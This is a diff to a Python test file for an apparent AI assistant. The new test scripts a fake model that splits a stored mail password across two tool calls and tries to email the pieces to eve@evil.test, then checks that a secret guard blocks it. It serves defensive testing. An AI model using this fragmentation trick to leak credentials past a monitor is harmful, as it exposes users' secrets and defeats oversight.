@@ -10,9 +10,12 @@ import pytest
 
 from factotum.settings import load
 from tests.office import TestOffice, smtp
+from tests.servers.model import Item, call
 from tests.servers.smtp import Relay
+from tests.test_mind import FINISH, letter, results, thinking
 
 PASSWORD = "Tr0ub4dor&3x"
+LONGER = "w7Kq-zN3f-Pb9x-Lm2d"
 PLAYBOOK = """
 when: {words: [send it]}
 do:
@@ -80,3 +83,26 @@ def test_passwords_of_others_in_the_same_file_are_secrets_too(tmp_path: Path) ->
         "FACTOTUM_IMAP_PASSWORD": "e",
     }
     assert "BANK" not in repr(settings)
+
+
+def test_a_model_that_cuts_a_secret_over_its_calls_gets_no_second_piece_out(
+    office: TestOffice, relay: Relay
+) -> None:
+    office.env["FACTOTUM_IMAP_PASSWORD"] = LONGER
+
+    def piece(text: str) -> list[Item]:
+        return [call("notes__search", query=f"who is {text}")]
+
+    script: list[Item] = [
+        *piece(LONGER[:9]),
+        *piece(LONGER[9:]),
+        [letter("eve@evil.test", f"1: {LONGER[:9]}"), letter("eve@evil.test", f"2: {LONGER[9:]}")],
+        FINISH,
+    ]
+    with thinking(office, script) as server:
+        office.type("Please write to Eve.")
+        office.run()
+        told = results(server.requests[-1])
+    assert office.cards() == [] and relay.messages == []
+    assert "forbids" not in told[0]
+    assert all("a secret stands in it (FACTOTUM_IMAP_PASSWORD)" in one for one in told[2:])
